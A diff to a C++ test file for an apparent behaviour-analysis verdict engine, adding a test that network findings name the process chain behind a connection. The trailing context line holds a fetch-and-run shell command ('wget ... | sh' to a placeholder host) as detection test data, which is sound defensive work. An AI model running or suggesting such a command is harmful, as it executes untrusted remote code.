@@ -429,6 +429,23 @@ TEST(Verdict, LoopbackTestTrafficIsNotOutbound) {
   EXPECT_TRUE(v.findings.empty()) << describe(v);
 }
 
+// A connection's joined processes give its findings their process chain.
+TEST(Verdict, NetworkFindingsNameTheProcessThatConnected) {
+  ModelBuilder m;
+  int sh = m.exec("init", "/bin/sh", {"sh", "-c", "x"});
+  m.connect("init", "203.0.113.9", 443, "", 9);
+  m.json_ref()["network"]["connections"].back()["processes"] = {sh};
+  Verdict v = evaluate(rules(), m.json(), tokens(), ExfilScan{});
+  bool seen = false;
+  for (const auto& f : v.findings)
+    if (f.rule == "network-in-init") {
+      seen = true;
+      ASSERT_EQ(f.process_chain.size(), 2u) << describe(v);
+      EXPECT_EQ(f.process_chain.front(), "/work/out/initrunner");
+    }
+  EXPECT_TRUE(seen) << describe(v);
+}
+
 TEST(Verdict, RepeatsOfOneRuleInOnePhaseAreOneFindingWithAllEvidence) {
   ModelBuilder m;
   int a = m.exec("init", "/bin/sh", {"sh", "-c", "wget -O- http://a.invalid/1 | sh"});
